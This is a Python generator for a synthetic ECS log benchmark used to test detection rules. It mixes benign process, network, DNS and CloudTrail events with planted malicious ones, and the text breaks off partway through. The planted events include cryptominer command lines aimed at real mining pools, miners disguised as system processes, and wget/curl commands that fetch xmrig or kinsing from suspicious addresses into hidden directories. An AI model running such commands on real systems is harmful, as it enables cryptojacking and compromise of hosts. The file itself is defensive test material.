"""Seeded, deterministic generator of an ECS NDJSON benchmark corpus with planted detections.

Benign traffic (process starts on Linux and Windows hosts and in containers, network
connections, DNS queries, CloudTrail-in-ECS events) is built so that no shipped rule fires on
it; malicious events are planted at ``--malicious-rate`` and listed, with the exact set of rule
slugs each must fire, in a sidecar ``FILE.truth.json``. Documents come nested, with dotted
keys, or mixed; ``--blank-lines`` sprinkles blank and whitespace-only lines (which count as
lines, so the truth's line numbers include them).

    python bench/gen_ecs_corpus.py --events 1000000 --out bench/out/ecs_1000000.ndjson
"""

from __future__ import annotations

import argparse
import json
import random
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path
from typing import Any

import orjson

Doc = dict[str, Any]

START_MS = 1_795_219_200_000  # 2026-11-21T00:00:00Z
SPAN_MS = 86_400_000  # the corpus covers one day whatever its size
BLANK_EVERY = 25_000  # mean events between blank lines with --blank-lines
BASE58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
UPPER_ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
B64ISH = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789/+"

# ---- benign vocabulary -------------------------------------------------------------------------
LINUX_ROLES = ("web", "api", "db", "worker", "build", "k8s-node", "bastion", "cache", "ci-runner")
WINDOWS_HOSTS = (*(f"WS-{n:04d}" for n in range(1, 13)), "DC-01", "FS-02")
LINUX_HOSTS = tuple(f"{r}-{n:02d}" for r in LINUX_ROLES for n in range(1, 7))
LINUX_USERS = ("root", "deploy", "ubuntu", "ec2-user", "www-data", "postgres", "ci", "alice", "bob")
WINDOWS_USERS = ("SYSTEM", "alice", "bob", "carol", "svc-backup", "LOCAL SERVICE")
REGIONS = ("us-east-1", "us-west-2", "eu-west-1", "eu-central-1", "ap-southeast-2")
ACCOUNTS = ("123456789012", "210987654321", "555566667777")


def own_image(account: str) -> str:
    """The AMI each benign account launches (its own, described by DescribeImages)."""
    return f"ami-0{int(account):016x}"


# (name, executable, parent name, parent executable, command lines)
LINUX_PROCS: tuple[tuple[str, str, str, str, tuple[str, ...]], ...] = (
    ("sshd", "/usr/sbin/sshd", "systemd", "/usr/lib/systemd/systemd", ("/usr/sbin/sshd -D -R",)),
    ("bash", "/usr/bin/bash", "sshd", "/usr/sbin/sshd", ("-bash", "bash --login")),
    (
        "sudo",
        "/usr/bin/sudo",
        "bash",
        "/usr/bin/bash",
        ("sudo systemctl restart nginx", "sudo -i", "sudo apt-get update", "sudo journalctl -xe"),
    ),
    (
        "systemctl",
        "/usr/bin/systemctl",
        "sudo",
        "/usr/bin/sudo",
        ("systemctl restart nginx", "systemctl status docker", "systemctl daemon-reload"),
    ),
    ("cron", "/usr/sbin/cron", "systemd", "/usr/lib/systemd/systemd", ("/usr/sbin/cron -f -P",)),
    (
        "sh",
        "/usr/bin/sh",
        "cron",
        "/usr/sbin/cron",
        ("/bin/sh -c /usr/local/bin/backup.sh", "/bin/sh -c 'run-parts --report /etc/cron.daily'"),
    ),
    (
        "python3",
        "/usr/bin/python3.11",
        "bash",
        "/usr/bin/bash",
        (
            "python3 /opt/app/manage.py migrate --noinput",
            "python3 -m pip install --upgrade requests",
            "python3 /usr/local/bin/report.py --since yesterday",
            "python3 -m http.server 8000",
        ),
    ),
    (
        "node",
        "/usr/bin/node",
        "systemd",
        "/usr/lib/systemd/systemd",
        ("node /srv/app/server.js", "node /srv/app/worker.js --queue emails"),
    ),
    (
        "java",
        "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
        "systemd",
        "/usr/lib/systemd/systemd",
        ("java -Xmx2g -jar /opt/orders/orders-service.jar", "java -jar /opt/kafka/libs/tool.jar"),
    ),
    (
        "git",
        "/usr/bin/git",
        "bash",
        "/usr/bin/bash",
        (
            "git pull --ff-only",
            "git clone https://github.com/example-org/payments.git",
            "git status --short",
            "git fetch origin main",
        ),
    ),
    ("make", "/usr/bin/make", "bash", "/usr/bin/bash", ("make -j2 build", "make test")),
    ("gcc", "/usr/bin/gcc", "make", "/usr/bin/make", ("gcc -O2 -Wall -c main.c -o main.o",)),
    (
        "apt-get",
        "/usr/bin/apt-get",
        "sudo",
        "/usr/bin/sudo",
        ("apt-get update", "apt-get install -y jq", "apt-get upgrade -y"),
    ),
    ("ls", "/usr/bin/ls", "bash", "/usr/bin/bash", ("ls -la /var/log", "ls --color=auto")),
    ("tail", "/usr/bin/tail", "bash", "/usr/bin/bash", ("tail -f /var/log/syslog",)),
    ("ps", "/usr/bin/ps", "bash", "/usr/bin/bash", ("ps aux", "ps -ef --forest")),
    ("df", "/usr/bin/df", "bash", "/usr/bin/bash", ("df -h",)),
    ("grep", "/usr/bin/grep", "bash", "/usr/bin/bash", ("grep -r ERROR /var/log/app",)),
    (
        "curl",
        "/usr/bin/curl",
        "bash",
        "/usr/bin/bash",
        (
            "curl -fsSL https://api.github.com/repos/example-org/payments/releases/latest",
            "curl -s http://169.254.169.254/latest/meta-data/instance-id",
            "curl -I https://www.example.com/",
        ),
    ),
    (
        "wget",
        "/usr/bin/wget",
        "bash",
        "/usr/bin/bash",
        ("wget -q https://releases.hashicorp.com/terraform/1.9.5/terraform_1.9.5_linux_amd64.zip",),
    ),
    (
        "docker",
        "/usr/bin/docker",
        "bash",
        "/usr/bin/bash",
        (
            "docker ps -a",
            "docker images",
            "docker pull nginx:1.27",
            "docker pull postgres:16",
            "docker pull redis:7.2",
            "docker pull bitnami/redis:7.2",
            "docker run -d --name web -p 8080:80 nginx:1.27",
            "docker run --rm -it python:3.12-slim bash",
            "docker logs --tail 100 api",
            "docker compose up -d",
        ),
    ),
    (
        "kubectl",
        "/usr/local/bin/kubectl",
        "bash",
        "/usr/bin/bash",
        (
            "kubectl get pods -A",
            "kubectl apply -f deploy.yaml",
            "kubectl logs -f deploy/api",
            "kubectl create deployment web --image=nginx:1.27",
            "kubectl run debug --image=busybox:1.36 --rm -it -- sh",
        ),
    ),
    (
        "aws",
        "/usr/local/bin/aws",
        "bash",
        "/usr/bin/bash",
        ("aws s3 ls s3://backups-prod", "aws ec2 describe-instances --region us-east-1"),
    ),
    ("psql", "/usr/bin/psql", "bash", "/usr/bin/bash", ("psql -h 10.0.3.12 -U app -d orders",)),
    ("ssh", "/usr/bin/ssh", "bash", "/usr/bin/bash", ("ssh -p 22 deploy@10.0.2.15",)),
    (
        "journalctl",
        "/usr/bin/journalctl",
        "bash",
        "/usr/bin/bash",
        ("journalctl -u nginx --since today",),
    ),
    (
        "dockerd",
        "/usr/bin/dockerd",
        "systemd",
        "/usr/lib/systemd/systemd",
        ("/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock",),
    ),
    (
        "kubelet",
        "/usr/bin/kubelet",
        "systemd",
        "/usr/lib/systemd/systemd",
        ("/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml --v=2",),
    ),
    (
        "terraform",
        "/usr/local/bin/terraform",
        "bash",
        "/usr/bin/bash",
        ("terraform plan -out plan.tfplan",),
    ),
)
WINDOWS_PROCS: tuple[tuple[str, str, str, str, tuple[str, ...]], ...] = (
    (
        "svchost.exe",
        "C:\\Windows\\System32\\svchost.exe",
        "services.exe",
        "C:\\Windows\\System32\\services.exe",
        ("C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",),
    ),
    (
        "powershell.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "explorer.exe",
        "C:\\Windows\\explorer.exe",
        ("powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1",),
    ),
    (
        "chrome.exe",
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "explorer.exe",
        "C:\\Windows\\explorer.exe",
        ('"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer',),
    ),
    (
        "cmd.exe",
        "C:\\Windows\\System32\\cmd.exe",
        "explorer.exe",
        "C:\\Windows\\explorer.exe",
        ("cmd.exe /c dir C:\\Users", "cmd.exe /c ipconfig /all"),
    ),
    (
        "git.exe",
        "C:\\Program Files\\Git\\cmd\\git.exe",
        "Code.exe",
        "C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
        ("git.exe fetch --all",),
    ),
)
# (image, tag, process name, executable, command lines) of container entrypoints and children
CONTAINER_PROCS: tuple[tuple[str, str, str, str, tuple[str, ...]], ...] = (
    ("nginx", "1.27", "nginx", "/usr/sbin/nginx", ("nginx -g daemon off;",)),
    ("redis", "7.2", "redis-server", "/usr/local/bin/redis-server", ("redis-server *:6379",)),
    (
        "postgres",
        "16",
        "postgres",
        "/usr/lib/postgresql/16/bin/postgres",
        ("postgres -c config_file=/etc/postgresql/postgresql.conf",),
    ),
    ("node", "20-alpine", "node", "/usr/local/bin/node", ("node /app/server.js",)),
    (
        "python",
        "3.12-slim",
        "gunicorn",
        "/usr/local/bin/gunicorn",
        ("gunicorn app:app --bind 0.0.0.0:8000 --workers 4",),
    ),
    (
        "python",
        "3.12-slim",
        "python3",
        "/usr/local/bin/python3",
        ("python3 manage.py migrate --noinput", "python3 -m celery -A tasks worker"),
    ),
    (
        "registry.internal.example.com/payments/api",
        "2.14.1",
        "java",
        "/opt/java/openjdk/bin/java",
        ("java -XX:MaxRAMPercentage=75 -jar /app/api.jar",),
    ),
    (
        "busybox",
        "1.36",
        "wget",
        "/bin/wget",
        ("wget -qO- http://localhost:8080/healthz", "wget -q --spider http://127.0.0.1:9000/ready"),
    ),
    (
        "curlimages/curl",
        "8.8.0",
        "curl",
        "/usr/bin/curl",
        ("curl -fsS http://api:8080/ready", "curl -fsS https://hooks.example.com/deploy-done"),
    ),
    ("alpine", "3.20", "sh", "/bin/sh", ("sh -c apk add --no-cache jq", "/bin/sh -c sleep 30")),
    (
        "prom/prometheus",
        "v2.53.0",
        "prometheus",
        "/bin/prometheus",
        ("prometheus --config.file=/etc/prometheus/prometheus.yml",),
    ),
    ("grafana/grafana", "11.1.0", "grafana", "/usr/share/grafana/bin/grafana", ("grafana server",)),
)
RUNTIME_PARENTS = (
    ("containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2"),
    ("runc", "/usr/bin/runc"),
    ("tini", "/sbin/tini"),
    ("conmon", "/usr/bin/conmon"),
)

PUBLIC_V4_PREFIXES = (
    "140.82.112.",  # GitHub
    "151.101.1.",  # Fastly
    "104.16.132.",  # Cloudflare
    "142.250.74.",  # Google
    "52.94.236.",  # AWS
    "54.239.28.",  # AWS
    "13.107.42.",  # Microsoft
    "34.117.59.",  # Google Cloud
    "185.199.108.",  # GitHub Pages
    "91.189.91.",  # Canonical
)
PUBLIC_V6 = (
    "2606:4700::6810:8484",
    "2a00:1450:4001:82b::200e",
    "2620:1ec:c11::200",
    "2a04:4e42::223",
    "2600:1f18:24e6:b900::1",
)
PUBLIC_DOMAINS = (
    "github.com",
    "api.github.com",
    "registry-1.docker.io",
    "auth.docker.io",
    "production.cloudflare.docker.com",
    "pypi.org",
    "files.pythonhosted.org",
    "registry.npmjs.org",
    "deb.debian.org",
    "archive.ubuntu.com",
    "security.ubuntu.com",
    "www.google.com",
    "login.microsoftonline.com",
    "slack.com",
    "s3.amazonaws.com",
    "sts.us-east-1.amazonaws.com",
    "ec2.eu-west-1.amazonaws.com",
    "ecr.us-west-2.amazonaws.com",
    "2.debian.pool.ntp.org",
    "ntp.ubuntu.com",
    "www.example.com",
    "hooks.example.com",
    "releases.hashicorp.com",
    "objects.githubusercontent.com",
    "update.googleapis.com",
    "dl.google.com",
    "telemetry.example.net",
    "sentry.io",
    "api.datadoghq.com",
    "grafana.com",
)
INTERNAL_DOMAINS = (
    "api.internal.example.com",
    "db.internal.example.com",
    "kubernetes.default.svc.cluster.local",
    "orders.prod.svc.cluster.local",
    "redis.cache.svc.cluster.local",
    "registry.internal.example.com",
)
# (port, transport, processes) for connections to private addresses; 3333/4444/5555/7777
# on private addresses are legitimate internal services and exercise the reserved-range test
PRIVATE_SERVICES: tuple[tuple[int, str, tuple[str, ...]], ...] = (
    (5432, "tcp", ("psql", "java", "python3")),
    (3306, "tcp", ("java", "php-fpm")),
    (6379, "tcp", ("node", "python3")),
    (6443, "tcp", ("kubelet", "kubectl")),
    (9090, "tcp", ("grafana",)),
    (9100, "tcp", ("prometheus",)),
    (9200, "tcp", ("java", "filebeat")),
    (22, "tcp", ("ssh", "ansible")),
    (8080, "tcp", ("curl", "nginx")),
    (53, "udp", ("systemd-resolved",)),
    (5555, "tcp", ("adb",)),
    (4444, "tcp", ("java",)),
    (3333, "tcp", ("node",)),
    (7777, "tcp", ("app-server",)),
)
PUBLIC_SERVICES: tuple[tuple[int, str, tuple[str, ...]], ...] = (
    (
        443,
        "tcp",
        ("curl", "python3", "java", "node", "dockerd", "containerd", "aws", "git-remote-https"),
    ),
    (80, "tcp", ("apt-get", "http", "curl")),
    (53, "udp", ("systemd-resolved",)),
    (123, "udp", ("chronyd",)),
    (22, "tcp", ("ssh",)),
    (8443, "tcp", ("java",)),
)
BROWSERS = (
    ("chrome", "/opt/google/chrome/chrome"),
    ("firefox", "/usr/lib/firefox/firefox"),
    ("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
    ("msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"),
)
CLOUDTRAIL = (
    ("ec2.amazonaws.com", "DescribeInstances", '{"instancesSet":{},"filterSet":{}}'),
    (
        "ec2.amazonaws.com",
        "RunInstances",
        '{"instancesSet":{"items":[{"imageId":"ami-0c7217cdde317cfec","minCount":1,'
        '"maxCount":1}]},"instanceType":"t3.micro"}',
    ),
    ("ec2.amazonaws.com", "DescribeSecurityGroups", '{"securityGroupIdSet":{}}'),
    ("ec2.amazonaws.com", "CreateTags", '{"resourcesSet":{"items":[{"resourceId":"i-0a1b"}]}}'),
    ("ec2.amazonaws.com", "DescribeImages", '{"ownersSet":{"items":[{"owner":"self"}]}}'),
    ("s3.amazonaws.com", "GetObject", '{"bucketName":"backups-prod","key":"db/2026-11-20.gz"}'),
    ("s3.amazonaws.com", "ListBuckets", "{}"),
    ("sts.amazonaws.com", "AssumeRole", '{"roleArn":"arn:aws:iam::123456789012:role/ci-deploy"}'),
    ("sts.amazonaws.com", "GetCallerIdentity", "{}"),
    ("kms.amazonaws.com", "Decrypt", '{"encryptionAlgorithm":"SYMMETRIC_DEFAULT"}'),
    ("ecr.amazonaws.com", "GetAuthorizationToken", "{}"),
    ("ecr.amazonaws.com", "BatchGetImage", '{"repositoryName":"payments/api"}'),
)

# ---- planted (malicious) vocabulary -------------------------------------------------------------
MINER_NAMES = ("xmrig", "minerd", "cpuminer", "kdevtmpfsi", "kinsing", "nbminer", "lolminer")
DISGUISES = ("kworker", "sysupdate", "kthreadd", "networkservice", "dbused", "systemd-journal")
DROP_DIRS = ("/tmp/.x", "/dev/shm/.cache", "/var/tmp/.ICE-unix", "/tmp/.font-unix")
POOL_HOSTS = (
    "pool.supportxmr.com",
    "xmr-eu1.nanopool.org",
    "gulf.moneroocean.stream",
    "rx.unmineable.com",
    "auto.c3pool.com",
    "pool.minexmr.com",
    "xmr.2miners.com",
)
POOL_PORTS = (3333, 14444, 5555, 4444, 7777)
BAD_V4_PREFIXES = ("45.9.148.", "185.212.128.", "194.38.20.", "91.215.85.", "78.46.113.")
BAD_V6 = ("2a01:4f8:10a:3b1::2", "2a03:b0c0:3:d0::1f5:6001")
TYPOSQUATS = ("ngnix", "alpien", "redls", "nginxx", "pyhton", "postgress", "ubuntuu", "mongoo")
BAD_NAMESPACE_IMAGES = ("pocosow/centos", "docker123321/mysql", "gakeaws/nginx", "kazutod/tomcat")

KINDS: dict[str, tuple[str, ...]] = {
    "miner_name": ("miner_process",),
    "miner_stratum": ("miner_process", "miner_cmdline"),
    "renamed_miner": ("miner_cmdline",),
    "pool_connection": ("pool_connection",),
    "pool_dns": ("pool_dns",),
    "container_downloader": ("container_downloader",),
    "container_credentials": ("container_credential_exposure",),
    "typosquat_pull": ("image_typosquat",),
    "malicious_namespace": ("image_malicious_namespace",),
    "miner_then_pool": ("miner_process", "miner_cmdline", "miner_then_pool"),
}
CHAIN_SECOND_RULES = ("pool_connection", "miner_then_pool")


@dataclass(frozen=True)
class Planted:
    """One planted malicious event: its event ordinal, id, kind and the rules it must fire."""

    ordinal: int
    event_id: str
    kind: str
    rules: tuple[str, ...]


@lru_cache(maxsize=4096)
def _iso_second(second: int) -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(second))


def iso(ms: int) -> str:
    """ECS @timestamp text for epoch milliseconds."""
    second, milli = divmod(ms, 1000)
    return f"{_iso_second(second)}.{milli:03d}Z"


def flatten(doc: Doc, prefix: str = "") -> Doc:
    """Nested document -> dotted keys (lists are leaves)."""
    out: Doc = {}
    for key, value in doc.items():
        name = f"{prefix}{key}"
        if isinstance(value, dict):
            out.update(flatten(value, name + "."))
        else:
            out[name] = value
    return out


class CorpusGenerator:
    """Builds benign and planted ECS documents from one seeded random stream."""

    def __init__(self, seed: int, events: int) -> None:
        self.rng = random.Random(seed)
        self.events = events
        rng = self.rng
        self.containers = [self._container(n) for n in range(240)]
        self.entity_seed = rng.getrandbits(32)
        self.agent_ids = {h: f"{rng.getrandbits(128):032x}" for h in LINUX_HOSTS + WINDOWS_HOSTS}

    # -- helpers
    def _container(self, n: int) -> Doc:
        rng = self.rng
        image, tag, name, exe, cmds = rng.choice(CONTAINER_PROCS)
        return {
            "host": LINUX_HOSTS[rng.randrange(len(LINUX_HOSTS))],
            "id": f"{rng.getrandbits(256):064x}",
            "name": f"{image.rsplit('/', 1)[-1]}-{n}",
            "image": image,
            "tag": tag,
            "proc": (name, exe, cmds),
        }

    def stamp(self, ordinal: int, jitter: bool = True) -> int:
        base = START_MS + ordinal * SPAN_MS // max(self.events, 1)
        return base + (self.rng.randint(-1500, 1500) if jitter else 0)

    def public_ip(self) -> str:
        rng = self.rng
        if rng.random() < 0.12:
            return rng.choice(PUBLIC_V6)
        return rng.choice(PUBLIC_V4_PREFIXES) + str(rng.randint(1, 254))

    def private_ip(self) -> str:
        rng = self.rng
        r = rng.random()
        if r < 0.5:
            return f"10.{rng.randint(0, 3)}.{rng.randint(0, 15)}.{rng.randint(2, 254)}"
        if r < 0.7:
            return f"172.{rng.randint(16, 31)}.{rng.randint(0, 255)}.{rng.randint(2, 254)}"
        if r < 0.9:
            return f"192.168.{rng.randint(0, 9)}.{rng.randint(2, 254)}"
        return f"fd12:3456:789a:{rng.randint(1, 9)}::{rng.randint(1, 4095):x}"

    def ecs_meta(self, doc: Doc, agent: str) -> None:
        """ECS/agent fields real shippers add (not in the schema; the reader ignores them)."""
        doc["ecs"] = {"version": "8.11.0"}
        doc["agent"] = {"type": agent, "version": "8.15.2"}

    def _process_fields(
        self, name: str, exe: str, cmd: str, parent: tuple[str, str], pid: int | None = None
    ) -> Doc:
        rng = self.rng
        pid = pid if pid is not None else rng.randint(300, 4_000_000)
        ppid = rng.randint(1, 4_000_000)
        return {
            "pid": pid,
            "entity_id": f"{self.entity_seed:08x}-{pid:x}",
            "name": name,
            "executable": exe,
            "command_line": cmd,
            "args": cmd.split(),
            "working_directory": "/",
            "parent": {"pid": ppid, "name": parent[0], "executable": parent[1]},
        }

    # -- benign
    def benign(self, ordinal: int) -> Doc:
        if ordinal == 0:  # one response says who owns the accounts' images (cloud_image_launch)
            return self.cloudtrail_event(ordinal, forced="DescribeImages")
        r = self.rng.random()
        if r < 0.45:
            doc = self.process_event(ordinal)
        elif r < 0.72:
            doc = self.network_event(ordinal)
        elif r < 0.90:
            doc = self.dns_event(ordinal)
        else:
            doc = self.cloudtrail_event(ordinal)
        return doc

    def process_event(self, ordinal: int) -> Doc:
        rng = self.rng
        r = rng.random()
        doc: Doc = {
            "@timestamp": iso(self.stamp(ordinal)),
            "event": {
                "id": f"{ordinal:010d}{rng.getrandbits(24):06x}",
                "kind": "event",
                "category": ["process"],
                "type": ["start"],
                "action": "exec",
                "module": "endpoint",
                "dataset": "endpoint.events.process",
            },
        }
        if r < 0.12:
            name, exe, pname, pexe, cmds = rng.choice(WINDOWS_PROCS)
            host = rng.choice(WINDOWS_HOSTS)
            doc["host"] = {"name": host, "os": {"type": "windows"}, "id": self.agent_ids[host]}
            doc["user"] = {"name": rng.choice(WINDOWS_USERS)}
            proc = self._process_fields(name, exe, rng.choice(cmds), (pname, pexe))
            proc["working_directory"] = "C:\\Windows\\system32"
            doc["event"]["code"] = "1"
            doc["event"]["module"] = "sysmon"
        elif r < 0.42:
            ctr = rng.choice(self.containers)
            name, exe, cmds = ctr["proc"]
            parent = rng.choice(RUNTIME_PARENTS) if rng.random() < 0.6 else ("sh", "/bin/sh")
            doc["host"] = {"name": ctr["host"], "os": {"type": "linux"}}
            doc["user"] = {"name": rng.choice(("root", "nobody", "app", "1000"))}
            proc = self._process_fields(name, exe, rng.choice(cmds), parent)
            doc["container"] = {
                "id": ctr["id"],
                "name": ctr["name"],
                "image": {"name": ctr["image"], "tag": [ctr["tag"]]},
                "runtime": "containerd",
            }
        else:
            name, exe, pname, pexe, cmds = rng.choice(LINUX_PROCS)
            host = rng.choice(LINUX_HOSTS)
            doc["host"] = {"name": host, "os": {"type": "linux"}, "id": self.agent_ids[host]}
            doc["user"] = {"name": rng.choice(LINUX_USERS)}
            proc = self._process_fields(name, exe, rng.choice(cmds), (pname, pexe))
        if rng.random() < 0.1:
            proc["env_vars"] = ["PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C.UTF-8"]
        doc["process"] = proc
        if rng.random() < 0.5:
            self.ecs_meta(doc, "endpoint")
        return doc

    def network_event(self, ordinal: int) -> Doc:
        rng = self.rng
        host = rng.choice(LINUX_HOSTS)
        r = rng.random()
        domain: str | None = None
        if r < 0.35:
            port, transport, procs = rng.choice(PRIVATE_SERVICES)
            dest = self.private_ip()
            pname = rng.choice(procs)
            exe = f"/usr/bin/{pname}"
        elif r < 0.45:
            pname, exe = rng.choice(BROWSERS)
            port, transport, dest = rng.choice((443, 80)), "tcp", self.public_ip()
            domain = rng.choice(PUBLIC_DOMAINS)
            if pname.endswith(".exe"):
                host = rng.choice(WINDOWS_HOSTS)
        else:
            port, transport, procs = rng.choice(PUBLIC_SERVICES)
            dest = self.public_ip()
            pname = rng.choice(procs)
            exe = f"/usr/bin/{pname}"
            if port == 443 and rng.random() < 0.4:
                domain = rng.choice(PUBLIC_DOMAINS)
        src = (
            "fd12:3456:789a:1::10"
            if ":" in dest
            else f"10.0.{rng.randint(0, 15)}.{rng.randint(2, 254)}"
        )
        ingress = rng.random() < 0.15
        doc: Doc = {
            "@timestamp": iso(self.stamp(ordinal)),
            "event": {
                "id": f"{ordinal:010d}{rng.getrandbits(24):06x}",
                "kind": "event",
                "category": ["network"],
                "type": ["connection", "start"],
                "action": "connection_accepted" if ingress else "connection_attempted",
                "module": "endpoint",
                "dataset": "endpoint.events.network",
            },
            "host": {"name": host, "id": self.agent_ids[host]},
            "process": {"pid": rng.randint(300, 4_000_000), "name": pname, "executable": exe},
            "source": {"ip": src, "port": rng.randint(32768, 60999)},
            "destination": {"ip": dest, "port": port},
            "network": {"transport": transport, "direction": "ingress" if ingress else "egress"},
        }
        if ingress:
            doc["source"] = {"ip": self.public_ip(), "port": rng.randint(1024, 65535)}
            doc["destination"] = {"ip": src, "port": rng.choice((443, 80, 22))}
            doc["process"] = {"pid": rng.randint(300, 9999), "name": "nginx"}
        elif domain is not None:
            doc["destination"]["domain"] = domain
            if rng.random() < 0.3:
                doc["url"] = {"domain": domain, "full": f"https://{domain}/"}
        if rng.random() < 0.5:
            self.ecs_meta(doc, "endpoint")
        return doc

    def dns_event(self, ordinal: int) -> Doc:
        rng = self.rng
        host = rng.choice(LINUX_HOSTS + WINDOWS_HOSTS)
        name = rng.choice(PUBLIC_DOMAINS if rng.random() < 0.7 else INTERNAL_DOMAINS)
        doc: Doc = {
            "@timestamp": iso(self.stamp(ordinal)),
            "event": {
                "id": f"{ordinal:010d}{rng.getrandbits(24):06x}",
                "kind": "event",
                "category": ["network"],
                "type": ["protocol"] if rng.random() < 0.7 else ["info"],
                "action": "lookup_requested",
                "module": "endpoint",
            },
            "host": {"name": host},
            "process": {
                "pid": rng.randint(300, 4_000_000),
                "name": rng.choice(("systemd-resolved", "curl", "python3", "java", "chrome.exe")),
            },
            "dns": {"question": {"name": name, "type": rng.choice(("A", "AAAA", "A", "CNAME"))}},
        }
        if rng.random() < 0.3:
            doc["destination"] = {"ip": "10.0.0.2", "port": 53}
            doc["network"] = {"transport": "udp", "protocol": "dns"}
        return doc

    def cloudtrail_event(self, ordinal: int, forced: str | None = None) -> Doc:
        rng = self.rng
        provider, action, params = rng.choice(CLOUDTRAIL)
        if forced is not None:
            provider, action, params = next(c for c in CLOUDTRAIL if c[1] == forced)
        account = rng.choice(ACCOUNTS)
        role = rng.choice(("ci-deploy", "admin", "readonly", "ecs-task"))
        failed = rng.random() < 0.05
        principal_type = rng.choice(("AssumedRole", "IAMUser", "AWSService"))
        arn = (
            f"arn:aws:iam::{account}:user/{role}"
            if principal_type == "IAMUser"
            else f"arn:aws:sts::{account}:assumed-role/{role}/session-{rng.getrandbits(24):06x}"
        )
        doc: Doc = {
            "@timestamp": iso(self.stamp(ordinal)),
            "event": {
                "id": f"{rng.getrandbits(128):032x}",
                "kind": "event",
                "action": action,
                "provider": provider,
                "module": "aws",
                "dataset": "aws.cloudtrail",
                "outcome": "failure" if failed else "success",
            },
            "cloud": {"provider": "aws", "region": rng.choice(REGIONS), "account": {"id": account}},
            "user": {"name": role},
            "source": {"ip": self.public_ip() if rng.random() < 0.7 else "ec2.amazonaws.com"},
            "aws": {
                "cloudtrail": {
                    "request_parameters": params,
                    "user_identity": {"arn": arn, "type": principal_type},
                }
            },
        }
        if failed:
            doc["aws"]["cloudtrail"]["error_code"] = "Client.UnauthorizedOperation"
        if action == "RunInstances":  # a routine launch of the account's own image
            doc["aws"]["ec2"] = {
                "image_ids": [own_image(account)],
                "instance_type": "t3.micro",
                "instance_count": 1,
            }
        elif forced == "DescribeImages":  # CloudTrail usually logs no response for Describe*
            items = [
                {"imageId": own_image(a), "imageOwnerId": a, "isPublic": False} for a in ACCOUNTS
            ]
            response = {"imagesSet": {"items": items}}
            doc["aws"]["cloudtrail"]["response_elements"] = json.dumps(response)
        if rng.random() < 0.5:
            self.ecs_meta(doc, "filebeat")
        return doc

    # -- planted
    def wallet(self) -> str:
        rng = self.rng
        return rng.choice("48") + rng.choice("0123456789AB") + "".join(rng.choices(BASE58, k=93))

    def planted(self, kind: str, ordinal: int, host: str, event_id: str) -> Doc:
        """One malicious document of ``kind`` (for a chain: the miner step)."""
        rng = self.rng
        doc: Doc = {
            "@timestamp": iso(self.stamp(ordinal, jitter=False)),
            "event": {
                "id": event_id,
                "kind": "event",
                "category": ["process"],
                "type": ["start"],
                "action": "exec",
                "module": "endpoint",
            },
            "host": {"name": host, "os": {"type": "linux"}},
            "user": {"name": rng.choice(("root", "www-data", "nobody"))},
        }
        shim = ("containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2")
        drop = rng.choice(DROP_DIRS)
        pool = f"stratum+tcp://{rng.choice(POOL_HOSTS)}:{rng.choice(POOL_PORTS)}"
        if kind == "miner_name":
            name = rng.choice(MINER_NAMES)
            cmd = f"{drop}/{name} -c {drop}/config.json -B"
            doc["process"] = self._process_fields(
                name, f"{drop}/{name}", cmd, ("bash", "/bin/bash")
            )
        elif kind in ("miner_stratum", "miner_then_pool"):
            name = rng.choice(MINER_NAMES)
            cmd = f"{drop}/{name} -o {pool} -u {self.wallet()} -p x -k"
            doc["process"] = self._process_fields(name, f"{drop}/{name}", cmd, shim)
            doc["container"] = {"id": f"{rng.getrandbits(256):064x}", "image": {"name": "alpine"}}
        elif kind == "renamed_miner":
            name = rng.choice(DISGUISES)
            cmd = f"{drop}/{name} -o {pool} -u {self.wallet()} --donate-level=1 -B"
            doc["process"] = self._process_fields(name, f"{drop}/{name}", cmd, ("sh", "/bin/sh"))
        elif kind == "pool_connection":
            return self.pool_connection(ordinal, host, event_id, pid=None)
        elif kind == "pool_dns":
            name = rng.choice(POOL_HOSTS)
            name = name.upper() if rng.random() < 0.2 else name
            name = name + "." if rng.random() < 0.2 else name
            doc["event"].update(category=["network"], type=["protocol"], action="lookup_requested")
            doc["process"] = {"pid": rng.randint(300, 99999), "name": rng.choice(DISGUISES)}
            doc["dns"] = {"question": {"name": name, "type": "A"}}
        elif kind == "container_downloader":
            url = rng.choice(
                (
                    f"http://{rng.choice(BAD_V4_PREFIXES)}{rng.randint(2, 250)}/bins/"
                    "xmrig-6.21.0-linux-static-x64.tar.gz",
                    "https://github.com/xmrig/xmrig/releases/download/v6.21.0/"
                    "xmrig-6.21.0-linux-static-x64.tar.gz",
                    f"http://{rng.choice(BAD_V4_PREFIXES)}{rng.randint(2, 250)}/kinsing",
                )
            )
            tool, exe, cmd = rng.choice(
                (
                    ("wget", "/usr/bin/wget", f"wget -q -O {drop}/k {url}"),
                    ("curl", "/usr/bin/curl", f"curl -fsSL -o {drop}/k {url}"),
                    ("python3", "/usr/bin/python3", f"python3 -c import urllib.request {url}"),
                )
            )
            doc["process"] = self._process_fields(tool, exe, cmd, rng.choice(RUNTIME_PARENTS))
            ctr = rng.choice(self.containers)
            doc["container"] = {"id": ctr["id"], "image": {"name": ctr["image"]}}
        elif kind == "container_credentials":
            key_id = rng.choice(("AKIA", "ASIA")) + "".join(rng.choices(UPPER_ALNUM, k=16))
            secret = "".join(rng.choices(B64ISH, k=40))
            cmd = (
